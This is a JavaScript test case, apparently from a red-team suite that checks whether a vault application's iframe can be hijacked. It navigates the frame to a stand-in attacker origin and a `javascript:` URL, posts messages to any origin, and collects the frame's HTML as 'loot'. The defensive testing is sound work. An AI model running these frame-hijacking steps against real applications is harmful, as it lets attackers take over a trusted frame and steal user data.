// A real attacker: sends the vault's frame to a page of theirs after it has been let in, so that the page there
// inherits its place in the application's trust.
export default {
  row: "frames",
  expected: [null, "loses"],
  after: async ({ evil, own }, redteam) => {
    const [frame] = document.querySelectorAll("iframe");
    for (const src of [
      `${evil}/vault`,
      "javascript:parent.postMessage('strongroom:hello','*')",
      `${own}/`,
      "about:blank",
    ]) {
      frame.src = src;
      await redteam.wait(400);
      try {
        redteam.loot(frame.contentDocument?.documentElement.outerHTML ?? "");
        frame.contentWindow.postMessage("strongroom:port", "*", [new MessageChannel().port2]);
      } catch (error) {
        redteam.loot(error.name);
      }
    }
    await globalThis.app.call("/v1/me").catch(String);
    return frame.src;
  },
  reached: ({ brought, stolen }) =>
    brought === "about:blank" && stolen.some((request) => request.includes("/vault\n")),
};
